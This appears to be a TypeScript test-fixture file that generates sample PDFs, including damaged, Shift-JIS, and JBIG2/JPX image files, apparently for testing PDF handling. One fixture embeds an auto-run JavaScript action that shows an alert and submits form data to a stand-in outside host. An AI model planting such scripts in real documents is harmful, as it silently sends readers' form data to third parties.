/** The start of a PDF, followed by bytes that are no PDF. */
export async function damagedPdf(pdf: Blob): Promise<Blob> {
  const start = await pdf.slice(0, 1_000).arrayBuffer();
  return new Blob([start, new Uint8Array(5_000).fill(7)]);
}

/** A PDF with one line of text per page. It has a script that runs on opening, a form, and a link to another site. */
export function pdfOf(...lines: readonly string[]): Blob {
  const fixed = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /AcroForm << /Fields [5 0 R] /NeedAppearances true >> >>',
    `<< /Type /Pages /Kids [${lines.map((_, at) => `${7 + 2 * at} 0 R`).join(' ')}] /Count ${lines.length} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    '<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("http://elsewhere.example/"\\);) >>',
    '<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (filled) /Rect [72 600 300 620] /P 7 0 R >>',
    '<< /Type /Annot /Subtype /Link /Rect [72 500 300 520] /A << /S /URI /URI (http://elsewhere.example/) >> >>',
  ];
  const pages = lines.flatMap((line, at) => {
    const content = `BT /F1 24 Tf 72 700 Td (${line}) Tj ET`;
    return [
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents ${8 + 2 * at} 0 R /Resources << /Font << /F1 3 0 R >> >> /Annots [5 0 R 6 0 R] >>`,
      streamOf(content),
    ];
  });
  return pdfOfObjects([...fixed, ...pages]);
}

/** A PDF with one page, on which something is drawn with one resource. */
function pdfOfPage(content: string, resources: string, ...objects: readonly string[]): Blob {
  return pdfOfObjects([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << ${resources} >> >>`,
    streamOf(content),
    ...objects,
  ]);
}

/** A PDF with “テスト” in Shift-JIS, in a font that it does not bring. */
export function pdfInShiftJis(): Blob {
  const info = '/CIDSystemInfo << /Registry (Adobe) /Ordering (Japan1) /Supplement 2 >>';
  return pdfOfPage(
    'BT /F1 24 Tf 72 700 Td <836583588367> Tj ET',
    '/Font << /F1 5 0 R >>',
    '<< /Type /Font /Subtype /Type0 /BaseFont /Ryumin-Light /Encoding /90ms-RKSJ-H /DescendantFonts [6 0 R] >>',
    `<< /Type /Font /Subtype /CIDFontType0 /BaseFont /Ryumin-Light ${info} /FontDescriptor 7 0 R >>`,
    '<< /Type /FontDescriptor /FontName /Ryumin-Light /Flags 4 /FontBBox [0 -200 1000 900] /ItalicAngle 0 /Ascent 900 /Descent -200 /CapHeight 700 /StemV 80 >>',
  );
}

/** Pictures of 16 × 16 pixels, black on the left and white on the right, in hexadecimal digits. */
const PICTURES = {
  JBIG2Decode:
    '000000003000010000001300000010000000100000000000000000000000000000012600010000001d00000010000000100000000000000000000126a2fffffffffffe002002',
  JPXDecode:
    'ff4fff510029000000000010000000100000000000000000000000100000001000000000000000000001070101ff52000c00000001000404040001ff5c00104040484850484850484850484850ff640025000143726561746564206279204f70656e4a5045472076657273696f6e20322e352e34ff90000a0000000000340001ff93cfb408071fcfc0080069cfc01408f14b5d25cfc024172ca8893a261657adc7da0800216e07faffd9',
} as const;

/** A PDF with a picture that is packed in one of these ways: black on the left, white on the right. */
export function pdfOfPicture(filter: keyof typeof PICTURES, picture: string = PICTURES[filter]): Blob {
  const depth = filter === 'JBIG2Decode' ? 1 : 8;
  const facts = `/Type /XObject /Subtype /Image /Width 16 /Height 16 /ColorSpace /DeviceGray /BitsPerComponent ${depth}`;
  return pdfOfPage(
    'q 300 0 0 300 100 300 cm /I Do Q',
    '/XObject << /I 5 0 R >>',
    streamOf(`${picture}>`, `${facts} /Filter [/ASCIIHexDecode /${filter}]`),
  );
}

function streamOf(content: string, more = ''): string {
  return `<< /Length ${content.length} ${more} >>\nstream\n${content}\nendstream`;
}

function pdfOfObjects(objects: readonly string[]): Blob {
  let text = '%PDF-1.7\n';
  const places = objects.map((object, at) => {
    const place = text.length;
    text += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return place;
  });
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  const trailer = `trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF`;
  return new Blob([`${text}xref\n0 ${size}\n0000000000 65535 f \n${table}${trailer}`], {
    type: 'application/pdf',
  });
}
